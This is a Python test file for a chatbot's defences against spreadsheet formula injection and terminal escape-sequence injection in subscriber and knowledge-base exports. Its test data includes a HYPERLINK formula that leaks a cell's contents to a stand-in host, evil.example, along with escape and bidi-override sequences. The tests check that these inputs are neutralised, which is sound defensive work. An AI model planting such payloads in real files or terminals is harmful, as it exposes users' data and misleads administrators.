"""Formula and terminal injection: what users typed cannot run in an admin's spreadsheet or terminal."""

from __future__ import annotations

import csv
import dataclasses

from openpyxl import load_workbook

from bot.cli.terminal import printable
from bot.db import people
from bot.db.database import open_database
from bot.db.spreadsheet_cells import neutralise, restore
from bot.db.subscribers_csv import export_csv, import_csv
from knowledge.formats import export_entries, import_entries

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def test_cells_starting_like_a_formula_are_neutralised_and_read_back_as_typed():
    for value in (EVIL, "+84912", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(value).startswith("'") and restore(neutralise(value)) == value
    for value in ("Lan", "'quoted", "5S là gì", ""):
        assert neutralise(value) == value and restore(value) == value


async def test_subscriber_export_neutralises_names_and_import_restores_them(tmp_path):
    db = await open_database(f"sqlite+aiosqlite:///{tmp_path}/bot.db")
    try:
        async with db.session() as s:
            await people.touch(s, "telegram", "1", "1", EVIL)
            await people.subscribe(s, "telegram", "1", [])
            path = tmp_path / "subscribers.csv"
            await export_csv(s, str(path))
            [_header, row] = list(csv.reader(path.open(encoding="utf-8")))
            assert row[2] == "'" + EVIL
            await import_csv(s, str(path))
            assert (await people.get_person(s, "telegram", "1")).display_name == EVIL
    finally:
        await db.dispose()


def test_xlsx_export_stores_a_question_starting_with_equals_as_text(shipped_kb, tmp_path):
    entry = dataclasses.replace(shipped_kb.entries[0], question="=1+2 là gì?")
    path = tmp_path / "kb.xlsx"
    export_entries([entry], path)
    cell = next(c for c in load_workbook(path).active[2] if c.value == "=1+2 là gì?")
    assert cell.data_type == "s"  # text, not a formula
    [back], _problems = import_entries(path)
    assert back.question == "=1+2 là gì?"


def test_user_text_printed_to_a_terminal_loses_escape_sequences():
    shown = printable("\x1b]0;PWNED\x07giá vàng\x1b[2J\nhôm nay\u202e")
    assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown
    assert shown == "]0;PWNEDgiá vàng[2J hôm nay"
    assert len(printable("x" * 1000)) == 300
